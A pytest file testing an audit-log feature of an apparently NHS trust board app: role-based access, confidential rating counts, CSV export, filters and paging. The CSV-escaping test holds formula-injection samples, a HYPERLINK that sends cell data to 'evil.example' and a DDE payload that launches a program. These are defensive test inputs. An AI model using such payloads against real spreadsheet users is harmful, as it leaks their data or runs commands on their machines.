"""The audit log: who reads which trust's log, members' confidential ratings, the CSV and the JSON API."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import re
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import pyotp
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text
from sqlalchemy.exc import DBAPIError
from sqlmodel import Session, select

from api.accounts.models import User
from api.accounts.service import create_user
from api.audit.models import AuditEvent
from api.audit.service import record
from api.db import utcnow
from tests.databases import backend
from tests.factories import PASSWORD, api_token, bearer, make_user, organisation, page_csrf, sign_in

TRUST = "RCF"  # Airedale NHS Foundation Trust
OTHER_TRUST = "RBS"  # Alder Hey Children's NHS Foundation Trust
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


# --- Helpers -------------------------------------------------------------------------------------


def second_factor_on(db: Session, user: User) -> str:
    secret = pyotp.random_base32()
    user.totp_secret = secret
    user.totp_enabled_at = utcnow()
    db.add(user)
    db.commit()
    return secret


def sign_in_with_code(client: TestClient, email: str, secret: str) -> None:
    """Platform roles always need a second factor: sign in through both pages."""
    sign_in(client, email)
    token = page_csrf(client, "/sign-in/two-factor")
    response = client.post(
        "/sign-in/two-factor",
        data={"code": pyotp.TOTP(secret).now(), "csrf_token": token},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text


def token_with_code(client: TestClient, email: str, secret: str) -> str:
    # The next 30-second step: a code is accepted once, and the page sign-in may have used this one.
    return api_token(client, email, otp=pyotp.TOTP(secret).at(time.time() + 30))


def event(db: Session, action: str, *, at: datetime | None = None, **fields: Any) -> None:
    """An event written by the real service function, at a chosen time. Commits."""
    record(db, action, occurred_at=at, **fields)
    db.commit()


def trust_id(db: Session, ods_code: str) -> int:
    found = organisation(db, ods_code).id
    db.commit()
    assert found is not None
    return found


def actions(db: Session, action: str) -> list[AuditEvent]:
    rows = list(db.exec(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)).all())
    # End the read: on SQLite an open transaction holds the write lock the app needs.
    db.commit()
    return rows


def table(page_html: str) -> list[list[str]]:
    """The log table's rows, each a list of cell texts."""
    body = re.search(r'<tbody class="nhsuk-table__body">(.*?)</tbody>', page_html, re.S)
    if body is None:
        return []
    return [
        [
            " ".join(html.unescape(re.sub(r"<[^>]+>", " ", cell)).split())
            for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        ]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body.group(1), re.S)
    ]


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


# --- People --------------------------------------------------------------------------------------


@pytest.fixture
def chair(db: Session) -> User:
    return make_user(db, "ada.chair@example.org", role="chair", trust=TRUST, name="Ada Chair")


@pytest.fixture
def secretary(db: Session) -> User:
    return make_user(
        db, "sam.secretary@example.org", role="board_secretary", trust=TRUST, name="Sam Secretary"
    )


@pytest.fixture
def member(db: Session) -> User:
    return make_user(db, "bo.member@example.org", role="board_member", trust=TRUST, name="Bo Member")


@pytest.fixture
def other_chair(db: Session) -> User:
    return make_user(db, "olu.chair@example.org", role="chair", trust=OTHER_TRUST, name="Olu Otherchair")


@pytest.fixture
def admin(db: Session) -> tuple[User, str]:
    user = make_user(db, "ari.admin@example.org", platform_role="platform_admin", name="Ari Admin")
    return user, second_factor_on(db, user)


@pytest.fixture
def analyst(db: Session) -> tuple[User, str]:
    user = make_user(db, "nia.analyst@example.org", platform_role="sector_analyst", name="Nia Analyst")
    return user, second_factor_on(db, user)


# --- Real actions appear in the log --------------------------------------------------------------


def test_chair_sees_own_sign_ins_and_new_accounts_but_never_a_members_sign_ins(
    app: FastAPI, client: TestClient, db: Session, chair: User, member: User
) -> None:
    browser = TestClient(app)
    failed = browser.post(
        "/sign-in",
        data={"email": member.email, "password": "not-the-password", "csrf_token": page_csrf(browser)},
    )
    assert failed.status_code == 401
    sign_in(browser, member.email)
    token = re.search(r'<meta name="csrf-token" content="([^"]+)"', browser.get("/account").text).group(1)
    assert browser.post("/sign-out", data={"csrf_token": token}, follow_redirects=False).status_code == 303
    create_user(
        db,
        email="new.member@example.org",
        role="board_member",
        password=None,
        organisation_code=TRUST,
        actor=chair,
    )
    db.commit()

    sign_in(client, chair.email)
    page = client.get(f"/trusts/{TRUST}/audit")
    assert page.status_code == 200
    rows = table(page.text)
    what_by_who = [(row[1], row[2]) for row in rows]
    # When a member signed in (or failed to, or signed out), beside the rating activity, could
    # name a rater (issue 14, item 3): the chair sees only their own.
    assert not [row for row in what_by_who if row[0] == "Bo Member"]
    assert "bo.member@example.org" not in page.text
    assert ("Ada Chair", "Created an account for new.member@example.org as board member") in what_by_who
    # Newest first: the chair's own sign-in heads the list.
    assert what_by_who[0] == ("Ada Chair", "Signed in")
    assert what_by_who == [
        ("Ada Chair", "Signed in"),
        ("Ada Chair", "Created an account for new.member@example.org as board member"),
    ]
    # UK date and time, NHS style ("23 November 2026 2:05pm").
    assert re.fullmatch(r"\d{1,2} [A-Z][a-z]+ \d{4} (\d{1,2}(:\d{2})?(am|pm)|midday|midnight)", rows[0][0])
    assert page.headers["cache-control"] == "no-store"

    listed = client.get(
        f"/api/v1/organisations/{TRUST}/audit", headers=bearer(api_token(client, chair.email))
    )
    assert listed.status_code == 200
    body = listed.json()
    assert body["total"] == len(rows) + 1  # and the token just issued
    assert {item["action"] for item in body["items"]} == {"sign_in", "user.created"}
    assert {item["actor"]["email"] for item in body["items"] if item["action"] == "sign_in"} == {chair.email}
    # The member sees their own sign-ins in their account's activity; a platform admin sees all.
    assert all("client_ip" not in item for item in body["items"])


def test_board_secretary_reads_the_log_too(client: TestClient, secretary: User) -> None:
    sign_in(client, secretary.email)
    assert client.get(f"/trusts/{TRUST}/audit").status_code == 200
    assert client.get(f"/trusts/{TRUST}/audit.csv").status_code == 200
    token = api_token(client, secretary.email)
    assert client.get(f"/api/v1/organisations/{TRUST}/audit", headers=bearer(token)).status_code == 200


def test_board_member_gets_403_on_the_log_page_csv_and_api(client: TestClient, member: User) -> None:
    sign_in(client, member.email)
    assert client.get(f"/trusts/{TRUST}/audit").status_code == 403
    assert client.get(f"/trusts/{TRUST}/audit.csv").status_code == 403
    token = api_token(client, member.email)
    assert client.get(f"/api/v1/organisations/{TRUST}/audit", headers=bearer(token)).status_code == 403


def test_chair_of_another_trust_gets_404_on_the_log_page_csv_and_api(
    client: TestClient, chair: User, other_chair: User
) -> None:
    sign_in(client, other_chair.email)
    assert client.get(f"/trusts/{TRUST}/audit").status_code == 404
    assert client.get(f"/trusts/{TRUST}/audit.csv").status_code == 404
    token = api_token(client, other_chair.email)
    assert client.get(f"/api/v1/organisations/{TRUST}/audit", headers=bearer(token)).status_code == 404


def test_signed_out_visitor_is_sent_to_sign_in_and_the_api_wants_a_token(client: TestClient) -> None:
    page = client.get(f"/trusts/{TRUST}/audit", follow_redirects=False)
    assert page.status_code == 303
    assert page.headers["location"] == f"/sign-in?next=%2Ftrusts%2F{TRUST}%2Faudit"
    assert client.get(f"/api/v1/organisations/{TRUST}/audit").status_code == 401
    assert client.get("/api/v1/admin/audit").status_code == 401


def test_events_of_another_trust_and_of_people_not_on_the_board_never_appear(
    client: TestClient, db: Session, chair: User, other_chair: User
) -> None:
    trust_b = trust_id(db, OTHER_TRUST)
    outsider = make_user(db, "olive.outsider@example.org", role="board_member", trust=OTHER_TRUST)
    event(db, "consensus.changed", actor=other_chair, organisation_id=trust_b, summary="Trust B consensus")
    event(db, "export.downloaded", actor=other_chair, organisation_id=trust_b, summary="Trust B export")
    event(db, "sign_in", actor=outsider, summary="Signed in")
    event(db, "password.changed", actor=outsider, summary="Password changed")
    # A personal event recorded against trust B is trust B's, even for someone also on trust A's board.
    event(db, "password.reset", actor=chair, organisation_id=trust_b, summary="Reset via trust B")

    sign_in(client, chair.email)
    page = client.get(f"/trusts/{TRUST}/audit")
    csv_download = client.get(f"/trusts/{TRUST}/audit.csv")
    listed = client.get(
        f"/api/v1/organisations/{TRUST}/audit", headers=bearer(api_token(client, chair.email))
    )
    for output in (page.text, csv_download.content.decode("utf-8-sig"), listed.text):
        assert "Olu Otherchair" not in output and other_chair.email not in output
        assert "olive.outsider" not in output and "Olive Outsider" not in output
        assert "Trust B" not in output and "Reset their password" not in output
    assert {item["action"] for item in listed.json()["items"]} == {"sign_in", "export.downloaded"}

    # Trust B's chair sees them.
    other = TestClient(client.app)
    sign_in(other, other_chair.email)
    rows = table(other.get(f"/trusts/{OTHER_TRUST}/audit").text)
    whats = [row[2] for row in rows]
    assert "Trust B export" in whats and "Reset their password" in whats
    # Not even trust B's chair sees a member's own sign-ins and password changes.
    assert "Olive Outsider" not in [row[1] for row in rows]


# --- Members' own ratings are confidential -------------------------------------------------------


def test_own_rating_updates_show_as_a_daily_count_without_who_or_when(
    client: TestClient, db: Session, chair: User, member: User
) -> None:
    trust = trust_id(db, TRUST)
    carol = make_user(db, "carol.ned@example.org", role="board_member", trust=TRUST, name="Carol Ned")
    # 23:30 UTC on 30 June is 00:30 on 1 July in British Summer Time.
    for moment in (datetime(2025, 6, 30, 23, 30, tzinfo=UTC), datetime(2025, 7, 1, 9, 15, tzinfo=UTC)):
        event(
            db,
            "rating.changed",
            actor=member,
            organisation_id=trust,
            object_type="rating",
            object_id=7,
            details={"criterion": "accountability-named-leads"},
            at=moment,
        )
    event(
        db, "rating.changed", actor=member, organisation_id=trust, at=datetime(2025, 7, 2, 13, 45, tzinfo=UTC)
    )
    # Carol signed in after Bo's last update that day: the chair never sees that (a member's sign-in
    # times beside the rating counts could name a rater). The chair's own sign-in is shown, and the
    # count still heads the day.
    event(db, "sign_in", actor=carol, summary="Signed in", at=datetime(2025, 7, 1, 10, 20, tzinfo=UTC))
    event(db, "sign_in", actor=chair, summary="Signed in", at=datetime(2025, 7, 1, 10, 25, tzinfo=UTC))

    sign_in(client, chair.email)
    page = client.get(f"/trusts/{TRUST}/audit", params={"kind": "assessment"})
    assert table(page.text) == [
        ["2 July 2025", "", "Board members updated their own ratings (1 update)"],
        ["1 July 2025", "", "Board members updated their own ratings (2 updates)"],
    ]
    everything = client.get(f"/trusts/{TRUST}/audit")
    rows = table(everything.text)
    assert rows[2:4] == [
        ["1 July 2025", "", "Board members updated their own ratings (2 updates)"],
        ["1 July 2025 11:25am", "Ada Chair", "Signed in"],
    ]
    assert "Carol Ned" not in everything.text

    csv_download = client.get(f"/trusts/{TRUST}/audit.csv")
    counts = [row for row in csv_rows(csv_download.content) if row["Action"] == "rating.changed"]
    assert counts == [
        {
            "Date": "2025-07-02",
            "Time (UK)": "",
            "Who": "",
            "Email": "",
            "Action": "rating.changed",
            "What happened": "Board members updated their own ratings (1 update)",
        },
        {
            "Date": "2025-07-01",
            "Time (UK)": "",
            "Who": "",
            "Email": "",
            "Action": "rating.changed",
            "What happened": "Board members updated their own ratings (2 updates)",
        },
    ]

    listed = client.get(
        f"/api/v1/organisations/{TRUST}/audit",
        params={"kind": "assessment"},
        headers=bearer(api_token(client, chair.email)),
    ).json()
    assert [(item["date"], item["count"]) for item in listed["items"]] == [
        ("2025-07-02", 1),
        ("2025-07-01", 2),
    ]
    for item in listed["items"]:
        assert item["id"] is None and item["occurred_at"] is None and item["actor"] is None
        assert item["details"] == {} and item["summary"] == ""

    for output in (everything.text, csv_download.content.decode("utf-8-sig"), str(listed)):
        assert "Bo Member" not in output and member.email not in output
        assert "accountability-named-leads" not in output
        for clock in ("12:30am", "10:15am", "2:45pm", "00:30", "10:15", "14:45", "23:30", "09:15", "13:45"):
            assert clock not in output


def test_platform_admin_sees_own_rating_events_only_as_counts_per_trust_and_day(
    app: FastAPI, client: TestClient, db: Session, member: User, admin: tuple[User, str]
) -> None:
    trust = trust_id(db, TRUST)
    for minute in (45, 50):
        event(
            db,
            "rating.changed",
            actor=member,
            organisation_id=trust,
            object_type="assessment",
            object_id=3,
            at=datetime(2025, 7, 2, 13, minute, tzinfo=UTC),
        )
    user, secret = admin
    sign_in_with_code(client, user.email, secret)
    page = client.get("/admin/audit", params={"kind": "assessment"})
    rows = table(page.text)
    assert rows == [
        [
            "2 July 2025",
            "Airedale NHS Foundation Trust",
            "",
            "Board members updated their own ratings (2 updates)",
        ]
    ]
    assert "Bo Member" not in page.text and "2:45pm" not in page.text and "2:50pm" not in page.text
    listed = client.get(
        "/api/v1/admin/audit",
        params={"kind": "assessment"},
        headers=bearer(token_with_code(client, user.email, secret)),
    )
    assert listed.status_code == 200, listed.text
    assert [(item["date"], item["count"], item["actor"]) for item in listed.json()["items"]] == [
        ("2025-07-02", 2, None)
    ]


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(
    client: TestClient, db: Session, chair: User
) -> None:
    trust = trust_id(db, TRUST)
    prankster = make_user(db, "prank@example.org", role="board_member", trust=TRUST, name="@SUM(A1:A9)")
    event(db, "evidence.added", actor=chair, organisation_id=trust, summary=FORMULA)
    event(db, "export.downloaded", actor=prankster, organisation_id=trust, summary="Downloaded the workbook")
    event(db, "evidence.added", actor=chair, organisation_id=trust, details={"title": "-2+3"})
    event(db, "assessment.reopened", actor=chair, organisation_id=trust, summary="+cmd|' /C calc'!A0")

    sign_in(client, chair.email)
    response = client.get(f"/trusts/{TRUST}/audit.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith(f'attachment; filename="audit-log-{TRUST}-')
    rows = csv_rows(response.content)
    whats = [row["What happened"] for row in rows]
    assert "'" + FORMULA in whats
    assert FORMULA not in whats
    assert "Added evidence: -2+3" in whats  # starts with a letter: left alone
    assert "'+cmd|' /C calc'!A0" in whats
    assert {"Who": "'@SUM(A1:A9)", "What happened": "Downloaded the workbook"}.items() <= next(
        row for row in rows if row["Email"] == "prank@example.org"
    ).items()
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    # The page shows the text as typed (HTML-escaped, not apostrophed).
    assert FORMULA in [row[2] for row in table(client.get(f"/trusts/{TRUST}/audit").text)]


def test_downloading_the_csv_is_recorded_with_its_filters(
    client: TestClient, db: Session, chair: User
) -> None:
    sign_in(client, chair.email)
    response = client.get(f"/trusts/{TRUST}/audit.csv", params={"kind": "sign_ins"})
    assert response.status_code == 200
    assert [row["Action"] for row in csv_rows(response.content)] == ["sign_in"]
    (download,) = actions(db, "export.downloaded")
    assert download.actor_id == chair.id
    assert download.organisation_id == trust_id(db, TRUST)
    assert download.details == {
        "export": "audit_log",
        "rows": 1,
        "kind": "sign_ins",
        "from": None,
        "to": None,
    }
    assert download.client_ip == "testclient"
    rows = table(client.get(f"/trusts/{TRUST}/audit", params={"kind": "exports"}).text)
    assert [row[1:] for row in rows] == [["Ada Chair", "Downloaded the audit log as a CSV file"]]


def test_csv_with_a_bad_date_is_refused_and_not_recorded(
    client: TestClient, db: Session, chair: User
) -> None:
    sign_in(client, chair.email)
    response = client.get(
        f"/trusts/{TRUST}/audit.csv", params={"from_day": "31", "from_month": "2", "from_year": "2026"}
    )
    assert response.status_code == 422
    assert actions(db, "export.downloaded") == []


def test_change_and_its_audit_event_are_committed_before_the_response_starts(
    app: FastAPI, engine: Engine, db: Session, member: User
) -> None:
    """A raw ASGI call, reading the database from outside the app the moment the response starts."""
    body = f"username={member.email}&password={PASSWORD}".encode()
    seen: dict[str, Any] = {}

    def committed_actions() -> list[str]:
        connection = engine.raw_connection()
        try:
            cursor = connection.cursor()
            cursor.execute("SELECT action FROM audit_event ORDER BY id")
            return [row[0] for row in cursor.fetchall()]
        finally:
            connection.rollback()
            connection.close()

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            seen["status"] = message["status"]
            seen["actions"] = committed_actions()

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/api/v1/auth/token",
        "raw_path": b"/api/v1/auth/token",
        "query_string": b"",
        "root_path": "",
        "headers": [
            (b"host", b"testserver"),
            (b"content-type", b"application/x-www-form-urlencoded"),
            (b"content-length", str(len(body)).encode()),
        ],
        "client": ("198.51.100.7", 50000),
        "server": ("testserver", 80),
    }
    asyncio.run(app(scope, receive, send))
    assert seen == {"status": 200, "actions": ["sign_in"]}


# --- Platform admins and sector analysts ---------------------------------------------------------


def test_platform_admin_sees_every_trust_and_account_event(
    client: TestClient, db: Session, chair: User, other_chair: User, admin: tuple[User, str]
) -> None:
    event(db, "consensus.changed", actor=chair, organisation_id=trust_id(db, TRUST), summary="A")
    event(db, "export.downloaded", actor=other_chair, organisation_id=trust_id(db, OTHER_TRUST))
    event(db, "cycle.opened", summary="Cycle 2026/27 opened")
    event(db, "sign_in.failed", details={"email": "nobody@example.org"}, client_ip="203.0.113.9")
    user, secret = admin
    sign_in_with_code(client, user.email, secret)

    rows = table(client.get("/admin/audit").text)
    assert ["Airedale NHS Foundation Trust", "Ada Chair", "A"] in [row[1:] for row in rows]
    assert ["Alder Hey Children's NHS Foundation Trust", "Olu Otherchair", "Downloaded an export"] in [
        row[1:] for row in rows
    ]
    assert ["", "The service", "Cycle 2026/27 opened"] in [row[1:] for row in rows]
    assert ["", "Unknown person", "Failed attempt to sign in as nobody@example.org"] in [
        row[1:] for row in rows
    ]

    listed = client.get("/api/v1/admin/audit", headers=bearer(token_with_code(client, user.email, secret)))
    assert listed.status_code == 200
    failed = next(item for item in listed.json()["items"] if item["action"] == "sign_in.failed")
    assert failed["client_ip"] == "203.0.113.9" and failed["actor"] is None

    download = client.get("/admin/audit.csv")
    assert download.status_code == 200
    rows_csv = csv_rows(download.content)
    assert {row["Trust"] for row in rows_csv} >= {
        "Airedale NHS Foundation Trust",
        "Alder Hey Children's NHS Foundation Trust",
    }
    assert "203.0.113.9" in {row["Client address"] for row in rows_csv}
    (recorded,) = actions(db, "export.downloaded")[1:]
    assert recorded.actor_id == user.id and recorded.organisation_id is None


def test_sector_analyst_sees_no_audit_log(
    client: TestClient, db: Session, chair: User, analyst: tuple[User, str]
) -> None:
    user, secret = analyst
    sign_in_with_code(client, user.email, secret)
    assert client.get("/admin/audit").status_code == 403
    assert client.get("/admin/audit.csv").status_code == 403
    assert client.get(f"/trusts/{TRUST}/audit").status_code == 404
    assert client.get(f"/trusts/{TRUST}/audit.csv").status_code == 404
    token = token_with_code(client, user.email, secret)
    assert client.get("/api/v1/admin/audit", headers=bearer(token)).status_code == 403
    assert client.get(f"/api/v1/organisations/{TRUST}/audit", headers=bearer(token)).status_code == 404
    assert actions(db, "export.downloaded") == []


def test_chair_is_refused_the_admin_log(client: TestClient, chair: User) -> None:
    sign_in(client, chair.email)
    assert client.get("/admin/audit").status_code == 403
    assert (
        client.get("/api/v1/admin/audit", headers=bearer(api_token(client, chair.email))).status_code == 403
    )


# --- Filters and pages ---------------------------------------------------------------------------


def test_filters_by_kind_and_by_uk_dates(client: TestClient, db: Session, chair: User, member: User) -> None:
    trust = trust_id(db, TRUST)
    event(db, "sign_in", actor=member, at=datetime(2025, 3, 10, 9, 0, tzinfo=UTC))
    event(db, "sign_in", actor=chair, at=datetime(2025, 3, 10, 9, 5, tzinfo=UTC))
    event(
        db,
        "member.role_changed",
        actor=chair,
        organisation_id=trust,
        at=datetime(2025, 3, 11, 9, 0, tzinfo=UTC),
    )
    # 23:30 UTC on 12 May is 00:30 on 13 May in the UK.
    event(
        db,
        "assessment.submitted",
        actor=chair,
        organisation_id=trust,
        at=datetime(2025, 5, 12, 23, 30, tzinfo=UTC),
    )
    sign_in(client, chair.email)

    def whats(**params: str) -> list[str]:
        response = client.get(f"/trusts/{TRUST}/audit", params=params)
        assert response.status_code == 200, response.text
        return [row[2] for row in table(response.text)]

    assert whats(kind="membership") == ["Changed a board member's role"]
    # The chair's own (today's and March's), never the member's.
    assert whats(kind="sign_ins") == ["Signed in", "Signed in"]
    march = {
        "from_day": "1",
        "from_month": "3",
        "from_year": "2025",
        "to_day": "10",
        "to_month": "3",
        "to_year": "2025",
    }
    assert whats(**march) == ["Signed in"]
    assert whats(
        from_day="13", from_month="5", from_year="2025", to_day="13", to_month="5", to_year="2025"
    ) == ["Submitted the assessment"]
    assert whats(to_day="12", to_month="5", to_year="2025", kind="assessment") == []

    listed = client.get(
        f"/api/v1/organisations/{TRUST}/audit",
        params={"date_from": "2025-05-13", "date_to": "2025-05-13"},
        headers=bearer(api_token(client, chair.email)),
    ).json()
    assert [item["action"] for item in listed["items"]] == ["assessment.submitted"]
    assert listed["items"][0]["date"] == "2025-05-13"

    csv_march = csv_rows(client.get(f"/trusts/{TRUST}/audit.csv", params=march).content)
    assert [(row["Date"], row["Time (UK)"], row["Action"], row["Email"]) for row in csv_march] == [
        ("2025-03-10", "09:05", "sign_in", chair.email)
    ]


def test_a_date_that_does_not_exist_is_explained_with_the_error_summary(
    client: TestClient, chair: User
) -> None:
    sign_in(client, chair.email)
    response = client.get(
        f"/trusts/{TRUST}/audit",
        params={
            "from_day": "31",
            "from_month": "2",
            "from_year": "2026",
            "to_day": "1",
            "to_month": "1",
            "to_year": "2026",
        },
    )
    assert response.status_code == 422
    assert "There is a problem" in response.text
    assert 'href="#from_day"' in response.text
    assert "From date must be a real date, for example 27 3 2026" in response.text
    assert "<title>Error: Audit log" in response.text
    backwards = client.get(
        f"/trusts/{TRUST}/audit",
        params={
            "from_day": "2",
            "from_month": "1",
            "from_year": "2026",
            "to_day": "1",
            "to_month": "1",
            "to_year": "2026",
        },
    )
    assert backwards.status_code == 422
    assert "To date must be the same as or after the from date" in backwards.text


def test_log_shows_50_a_page_newest_first_with_numbered_pages(
    client: TestClient, db: Session, chair: User
) -> None:
    trust = trust_id(db, TRUST)
    start = datetime(2025, 1, 5, 12, 0, tzinfo=UTC)
    for number in range(1, 121):
        record(
            db,
            "evidence.added",
            actor=chair,
            organisation_id=trust,
            summary=f"Evidence {number}",
            occurred_at=start + timedelta(minutes=number),
        )
    db.commit()
    sign_in(client, chair.email)

    first = client.get(f"/trusts/{TRUST}/audit", params={"kind": "assessment"})
    rows = table(first.text)
    assert len(rows) == 50
    assert [rows[0][2], rows[-1][2]] == ["Evidence 120", "Evidence 71"]
    assert "Showing 1 to 50 of 120 entries" in first.text
    assert 'href="/trusts/RCF/audit?kind=assessment&amp;page=2"' in first.text
    assert 'aria-current="page"' in first.text

    last = client.get(f"/trusts/{TRUST}/audit", params={"kind": "assessment", "page": "3"})
    assert [row[2] for row in table(last.text)] == [f"Evidence {n}" for n in range(20, 0, -1)]
    assert "Showing 101 to 120 of 120 entries" in last.text

    listed = client.get(
        f"/api/v1/organisations/{TRUST}/audit",
        params={"kind": "assessment", "page": 2},
        headers=bearer(api_token(client, chair.email)),
    ).json()
    assert (listed["total"], listed["pages"], listed["page"], len(listed["items"])) == (120, 3, 2, 50)
    assert listed["items"][0]["summary"] == "Evidence 70"

    every_row = csv_rows(client.get(f"/trusts/{TRUST}/audit.csv", params={"kind": "assessment"}).content)
    assert len(every_row) == 120


def test_consensus_changes_read_as_a_sentence_with_the_criterion(
    client: TestClient, db: Session, chair: User
) -> None:
    trust = trust_id(db, TRUST)
    event(
        db,
        "consensus.changed",
        actor=chair,
        organisation_id=trust,
        details={"criterion": "accountability-named-leads", "old_level": 2, "new_level": 3},
    )
    event(
        db,
        "assessment.reopened",
        actor=chair,
        organisation_id=trust,
        details={"reason": "The board asked to look again at priority 3"},
    )
    sign_in(client, chair.email)
    whats = [
        row[2] for row in table(client.get(f"/trusts/{TRUST}/audit", params={"kind": "assessment"}).text)
    ]
    assert whats[0] == "Reopened the assessment. Reason: The board asked to look again at priority 3"
    assert whats[1] == "Consensus for 'The board has a named executive lead and a…' changed from 2 to 3"


# --- The log cannot be changed -------------------------------------------------------------------


@pytest.mark.skipif(backend() != "postgresql", reason="the append-only trigger is PostgreSQL's")
def test_postgresql_refuses_to_change_or_delete_an_audit_event(
    engine: Engine, db: Session, chair: User
) -> None:
    event(db, "sign_in", actor=chair, summary="Signed in")
    recorded_id = db.exec(select(AuditEvent.id)).one()
    for statement in (
        "UPDATE audit_event SET summary = 'tampered' WHERE id = :id",
        "DELETE FROM audit_event WHERE id = :id",
    ):
        with pytest.raises(DBAPIError, match="append-only"), engine.begin() as connection:
            connection.execute(text(statement), {"id": recorded_id})
    with engine.connect() as connection:
        assert connection.execute(text("SELECT summary FROM audit_event")).scalars().all() == ["Signed in"]


def test_a_member_sees_their_own_sign_ins_on_their_account_page_and_nobody_elses(
    app: FastAPI, client: TestClient, chair: User, member: User
) -> None:
    """Issue 14, item 3: a person sees their own sign-ins (the trust's log no longer shows them)."""
    failed = client.post(
        "/sign-in",
        data={"email": member.email, "password": "not-the-password", "csrf_token": page_csrf(client)},
    )
    assert failed.status_code == 401
    other = TestClient(app)
    sign_in(other, chair.email)
    sign_in(client, member.email)
    page = client.get("/account")
    assert page.status_code == 200
    section = page.text[page.text.index("Your recent sign-ins") :]
    rows = re.findall(
        r"<tr class=\"nhsuk-table__row\">\s*<td[^>]*>([^<]*)</td>\s*<td[^>]*>([^<]*)</td>", section
    )
    assert [what for _when, what in rows] == ["Signed in", "Failed attempt to sign in"]
    # The chair's sign-in is not the member's to see.
    assert len(rows) == 2


def test_linking_single_sign_on_reads_as_a_sign_in_event(
    client: TestClient, db: Session, member: User, admin: tuple[User, str]
) -> None:
    event(db, "sign_in.linked", actor=member, object_type="user", object_id=member.id, summary="Linked")
    user, secret = admin
    listed = client.get(
        "/api/v1/admin/audit",
        params={"kind": "sign_ins"},
        headers=bearer(token_with_code(client, user.email, secret)),
    )
    assert listed.status_code == 200, listed.text
    linked = [item for item in listed.json()["items"] if item["action"] == "sign_in.linked"]
    assert [item["description"] for item in linked] == ["Linked their account to single sign-on"]
